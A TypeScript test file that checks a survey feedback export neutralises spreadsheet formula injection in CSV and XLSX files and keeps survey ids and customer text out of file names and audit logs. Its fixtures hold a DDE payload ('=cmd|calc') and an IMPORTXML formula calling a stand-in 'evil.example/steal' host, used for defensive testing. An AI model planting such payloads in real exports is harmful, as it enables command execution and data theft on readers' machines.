import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mapGroup } from '../testing/dashboard-fixtures.ts';
import { seedTeam } from '../testing/fixtures.ts';
import { startTestApp, type TestApp } from '../testing/test-app.ts';

/**
 * What a customer controls cannot turn an export against its reader, nor reach a log line: field
 * ids and labels that look like formulas are neutralised in the header too; the file name carries
 * no survey id; the audit event and every printed line carry no survey id, filter value or text.
 */

const SURVEY = 'survey-of-kari@example.com';
const FIELD = '=cmd|calc';
const LABEL = '@label';
const TEXT = '=IMPORTXML("https://evil.example/steal")';
const QUERY_WORD = 'importxml';
let app: TestApp;
let editor: string;

beforeAll(async () => {
  app = await startTestApp();
  const team = await seedTeam(app, { slug: 'export-sec' });
  await mapGroup(app, 'export-sec', 'g-xs', 'editor');
  editor = await app.tokenFor({ sub: 'export-sec-editor', groups: ['g-xs'] });
  const response = await fetch(`${app.url}/api/v1/submission`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${team.secretKey.value}`,
      'content-type': 'application/json',
    },
    body: JSON.stringify({
      schemaVersion: 2,
      surveyId: SURVEY,
      surveyType: 'rating',
      submittedAt: '2026-11-22T10:15:00Z',
      answers: [
        {
          fieldId: FIELD,
          fieldType: 'TEXT',
          question: { label: LABEL },
          value: { type: 'text', text: TEXT },
        },
      ],
      definition: {
        surveyType: 'rating',
        fields: [{ fieldId: FIELD, fieldType: 'TEXT', label: LABEL }],
      },
    }),
  });
  expect(response.status).toBe(201);
});
afterAll(async () => {
  await app.close();
});

function download(format: string) {
  const query = new URLSearchParams({
    team: 'export-sec',
    surveyId: SURVEY,
    q: QUERY_WORD,
    format,
  });
  return fetch(`${app.url}/api/v1/intern/export?${query}`, {
    headers: { authorization: `Bearer ${editor}` },
  });
}

describe('export of customer-controlled values', () => {
  it('neutralises formula-looking headers and cells in CSV and XLSX', async () => {
    const csv = await download('csv');
    expect(csv.status).toBe(200);
    const records = parse((await csv.text()).replace(/^\uFEFF/, '')) as string[][];
    expect(records[0]?.[4]).toBe(`'${FIELD} (${LABEL})`);
    expect(records[1]?.[4]).toBe(`'${TEXT}`);

    const xlsx = await download('xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await xlsx.arrayBuffer()) as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet?.getCell('E1').value).toBe(`'${FIELD} (${LABEL})`);
    expect(sheet?.getCell('E2').value).toBe(`'${TEXT}`);
    expect(sheet?.getCell('E2').type).toBe(ExcelJS.ValueType.String);
  });

  it('names the file without the survey id', async () => {
    for (const format of ['csv', 'json', 'xlsx']) {
      const response = await download(format);
      const disposition = response.headers.get('content-disposition') ?? '';
      expect(disposition).toMatch(
        new RegExp(`^attachment; filename="heed-feedback-export-sec-\\d{8}-\\d{6}\\.${format}"$`),
      );
      await response.arrayBuffer();
    }
  });

  it('writes no survey id, filter value, field id or text to the audit event or any other line', async () => {
    await (await download('csv')).arrayBuffer();
    const audits = app.output.auditEvents.filter(
      (event) => event.audit_event === 'export.feedback',
    );
    expect(audits.length).toBeGreaterThanOrEqual(1);
    expect(audits.at(-1)).toMatchObject({
      audit_outcome: 'success',
      resource_count: 1,
      resource_type: 'feedback',
    });
    for (const value of [SURVEY, QUERY_WORD, FIELD, LABEL, TEXT, 'IMPORTXML', 'kari']) {
      expect(
        app.output.lines.filter((line) => line.toLowerCase().includes(value.toLowerCase())),
        value,
      ).toEqual([]);
    }
  });
});
